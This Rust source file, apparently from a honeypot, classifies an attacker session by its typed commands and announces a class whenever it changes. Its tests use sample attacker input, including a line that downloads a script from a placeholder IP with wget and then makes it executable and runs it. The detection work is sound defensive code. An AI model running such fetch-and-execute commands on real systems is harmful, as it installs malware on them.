//! The session's attacker class: its input lines with their times, re-labelled after each line
//! by the R1–R8 rules ([`crate::models::labels`]); a change becomes `mirage.classification`.

use chrono::{DateTime, Utc};

use crate::events::EventKind;
use crate::models::{Label, Labeller};

/// Most input lines a session's class is decided from; later lines leave it as it is.
pub const MAX_LINES: usize = 1000;
/// Most input bytes kept for classifying one session.
pub const MAX_BYTES: usize = 64 * 1024;

/// One session's input so far and the class last announced.
#[derive(Debug, Clone)]
pub(super) struct Classifier {
    started: DateTime<Utc>,
    /// The input so far, split as it came.
    labeller: Labeller,
    lines: usize,
    bytes: usize,
    current: Option<Label>,
}

impl Classifier {
    /// A session that started at `started` and has typed nothing yet.
    pub(super) fn new(started: DateTime<Utc>) -> Classifier {
        Classifier {
            started,
            labeller: Labeller::default(),
            lines: 0,
            bytes: 0,
            current: None,
        }
    }

    /// Takes one input line typed at `at`; the `mirage.classification` event to emit when the
    /// session's class changed (or became known), `None` when it stayed the same. Blank
    /// lines, and lines beyond [`MAX_LINES`] or [`MAX_BYTES`], change nothing.
    pub(super) fn observe(&mut self, at: DateTime<Utc>, line: &str) -> Option<EventKind> {
        if line.trim().is_empty()
            || self.lines >= MAX_LINES
            || self.bytes.saturating_add(line.len()) > MAX_BYTES
        {
            return None;
        }
        let seconds = (at - self.started)
            .to_std()
            .map_or(0.0, |elapsed| elapsed.as_secs_f64());
        self.labeller.push(Some(seconds), line);
        self.lines += 1;
        self.bytes += line.len();
        let now = self.labeller.label();
        if self.current.is_some_and(|before| before.class == now.class) {
            return None;
        }
        self.current = Some(now);
        Some(EventKind::Classification {
            class: now.class.as_str().to_owned(),
            rule: now.rule.to_owned(),
            source: "rules".to_owned(),
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use chrono::TimeDelta;

    fn class_of(kind: Option<EventKind>) -> Option<String> {
        match kind {
            Some(EventKind::Classification { class, source, .. }) => {
                assert_eq!(source, "rules");
                Some(class)
            }
            _ => None,
        }
    }

    #[test]
    fn a_class_is_announced_when_first_known_and_again_only_when_it_changes() {
        let start = Utc::now();
        let mut c = Classifier::new(start);
        let at = |s| start + TimeDelta::seconds(s);
        assert_eq!(
            class_of(c.observe(at(1), "uname -a")).as_deref(),
            Some("recon_fingerprint")
        );
        assert_eq!(c.observe(at(1), "   "), None);
        assert_eq!(c.observe(at(2), "cat /proc/cpuinfo"), None);
        assert_eq!(
            class_of(c.observe(at(3), "cd /tmp; wget http://198.51.100.9/x.sh")).as_deref(),
            Some("malware_dropper")
        );
        assert_eq!(c.observe(at(4), "chmod +x x.sh; ./x.sh"), None);
    }

    #[test]
    fn input_beyond_the_bounds_is_not_kept() {
        let start = Utc::now();
        let mut c = Classifier::new(start);
        for _ in 0..MAX_LINES {
            c.observe(start, "uname");
        }
        assert_eq!(c.observe(start, "wget http://198.51.100.9/x"), None);
        let mut c = Classifier::new(start);
        assert_eq!(c.observe(start, &"x".repeat(MAX_BYTES + 1)), None);
        assert_eq!(c.lines, 0);
    }
}
